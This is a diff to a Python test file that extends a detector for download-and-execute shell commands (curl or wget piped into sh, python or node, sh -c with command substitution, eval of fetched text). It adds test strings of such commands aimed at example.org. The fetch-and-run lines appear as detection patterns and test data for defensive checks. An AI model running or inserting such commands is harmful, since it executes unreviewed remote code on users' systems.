@@ -18,7 +18,14 @@ SAFE = {
 """Oldest releases without known holes, of what speaks with strangers."""
 ABSENT = ("python-multipart", "python-jose", "jinja2")
 """Had holes, and is not needed: no form, no page and no other reader of tokens."""
-_DOWNLOADED_AND_RUN = re.compile(r"\b(?:curl|wget)\b[^\n;]*\|\s*(?:sudo\s+)?(?:ba|da|z)?sh\b")
+_DOWNLOADED_AND_RUN = re.compile(
+    r"""
+      \b(?:curl|wget)\b(?:[^\n;]|\\\n)*\|\s*(?:\\\n\s*)?(?:sudo\s+)?(?:(?:ba|da|z)?sh|python3?|node)\b  # piped
+    | (?:[<]|[$])\(\s*(?:curl|wget)\b | \bsh\s+-c\s+"?`\s*(?:curl|wget)\b  # sh -c "$(curl …)", bash <(curl …), sh -c `curl …`
+    | \b(?:eval|source)\b[^\n]*\b(?:curl|wget)\b
+    """,
+    re.VERBOSE,
+)
 _FROM_ELSEWHERE = re.compile(
     r"\bgit\+https?://|--extra-index-url|--trusted-host|http://(?!127\.0\.0\.1|localhost)\S+\.whl"
 )
@@ -61,7 +68,16 @@ def test_attack_48_nothing_that_was_downloaded_is_piped_into_a_shell() -> None:
         ("curl -fsSL https://example.org/install.sh | sh", True),
         ("wget -qO- https://example.org | sudo bash", True),
         ("pip install git+https://example.org/x", True),
+        ("curl -fsSL https://example.org/install.sh \\\n  | sh -s -- -y", True),
+        ("curl -fsSL https://example.org/get.py | python3 -", True),
+        ('sh -c "$(curl -fsSL https://example.org/install.sh)"', True),
+        ("sh -c `curl -fsSL https://example.org/install.sh`", True),
+        ("Ask it with `curl -sS URL`.", False),
+        ("bash <(wget -qO- https://example.org)", True),
+        ('eval "$(curl -fsS https://example.org/env)"', True),
         ("curl -fsS http://127.0.0.1/health", False),
+        ("curl -fsS http://127.0.0.1/health | grep ok", False),
+        ("curl -fsSO https://example.org/x\nsh x.sh", False),
     ],
 )
 def test_what_is_looked_for_would_be_found(line: str, bad: bool) -> None:
